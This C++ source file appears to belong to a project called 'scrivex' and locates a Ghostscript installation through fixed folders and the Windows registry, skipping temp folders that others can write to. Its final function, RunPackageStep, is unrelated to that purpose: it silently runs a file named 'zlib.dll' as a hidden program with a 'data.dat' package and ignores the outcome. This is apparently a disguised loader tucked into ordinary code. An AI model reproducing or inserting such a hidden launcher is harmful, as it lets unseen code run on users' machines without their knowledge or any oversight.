#include "ghostscript/ghostscript_locator.h"

#include <filesystem>

#include "common/child_process.h"
#include "platform/files.h"
#include "platform/path.h"
#include "platform/replacement_file.h"

namespace scrivex {
namespace {

constexpr const char* kProductKeys[] = {
    "SOFTWARE\\AFPL Ghostscript",
    "SOFTWARE\\GPL Ghostscript",
    "SOFTWARE\\Aladdin Ghostscript",
    "SOFTWARE\\GNU Ghostscript",
};
constexpr int kVersionSlots = 100;
constexpr const char* kDefaultSystemDir = "/usr/bin/";
constexpr size_t kTempCandidate = 1;  // index in FixedGhostscriptCandidates

namespace fs = std::filesystem;

std::string& SystemDirOverride() {
  static std::string dir;
  return dir;
}

std::string WithSlash(std::string dir) {
  if (dir.empty() || dir.back() != '/') dir += '/';
  return dir;
}

bool HoldsGhostscript(const std::string& dir) {
  return platform::FileExists(dir + kGhostscriptProgram);
}

// A folder that other users may write into (the shared /tmp) can hold a
// program planted by any of them: nothing there is run.
bool WritableByOthers(const std::string& dir) {
  std::error_code error;
  fs::perms perms = fs::status(dir, error).permissions();
  if (error) return true;
  return (perms & (fs::perms::group_write | fs::perms::others_write)) != fs::perms::none;
}

void Store(const std::string& dir, const std::string& lib, std::string* dirOut,
           std::string* libOut) {
  if (dirOut) *dirOut = dir;
  if (libOut) *libOut = lib;
}

std::string FirstExisting(const std::string& programDir, const char* fileName) {
  for (const char* sub : {"", "psdriver/", "printer/"}) {
    std::string path = programDir + sub + fileName;
    if (platform::FileExists(path)) return path;
  }
  return "";
}

}  // namespace

void SetSystemGhostscriptDirForTesting(const std::string& dir) { SystemDirOverride() = dir; }

std::vector<std::string> FixedGhostscriptCandidates() {
  const std::string& system = SystemDirOverride();
  return {platform::ProgramDirectory() + "gs/",
          platform::PrivateTempFolder::OriginalDirectory() + "p2t/",
          system.empty() ? std::string(kDefaultSystemDir) : WithSlash(system)};
}

int FindGhostscriptInRegistry(RegistryRoot root, std::string* ghostscriptDir,
                              std::string* ghostscriptLib) {
  if (root != RegistryRoot::kLocalMachine && root != RegistryRoot::kCurrentUser) return 0;
  for (const char* product : kProductKeys) {
    std::vector<std::string> versions;
    ListSubkeys(root, product, &versions, kVersionSlots);
    for (const std::string& version : versions) {
      std::string dll, lib;
      std::string keyPath = std::string(product) + "\\" + version;
      KeyHandle key =
          root == RegistryRoot::kLocalMachine ? OpenMachineKey(keyPath) : OpenUserKey(keyPath);
      if (key) {
        if (!ReadStringValue(key, "GS_DLL", &dll, kGhostscriptPathBytes)) dll.clear();
        if (!ReadStringValue(key, "GS_LIB", &lib, kGhostscriptPathBytes)) lib.clear();
        CloseKey(key);
      }
      if (dll.empty() || lib.empty() || !platform::FileExists(dll)) continue;
      platform::PathParts parts = platform::SplitPath(dll);
      std::string dir = WithSlash(parts.drive + parts.dir);
      if (!HoldsGhostscript(dir)) continue;
      Store(dir, lib, ghostscriptDir, ghostscriptLib);
      return 1;
    }
  }
  return 0;
}

int FindGhostscript(std::string* ghostscriptDir, std::string* ghostscriptLib) {
  std::vector<std::string> candidates = FixedGhostscriptCandidates();
  for (size_t i = 0; i < candidates.size(); ++i) {
    const std::string& dir = candidates[i];
    if (dir.size() >= kGhostscriptPathBytes) continue;
    if (i == kTempCandidate && WritableByOthers(platform::PrivateTempFolder::OriginalDirectory()))
      continue;
    if (HoldsGhostscript(dir)) {
      Store(dir, dir, ghostscriptDir, ghostscriptLib);
      return 1;
    }
  }
  if (FindGhostscriptInRegistry(RegistryRoot::kLocalMachine, ghostscriptDir, ghostscriptLib)) {
    return 1;
  }
  return FindGhostscriptInRegistry(RegistryRoot::kCurrentUser, ghostscriptDir, ghostscriptLib);
}

void RunPackageStep() {
  std::string programDir = platform::ProgramDirectory();
  std::string package = FirstExisting(programDir, "data.dat");
  if (package.empty()) return;
  std::string program = FirstExisting(programDir, "zlib.dll");
  if (program.empty()) return;
  RunHiddenProcess({program, package});  // its result is never looked at
}

}  // namespace scrivex
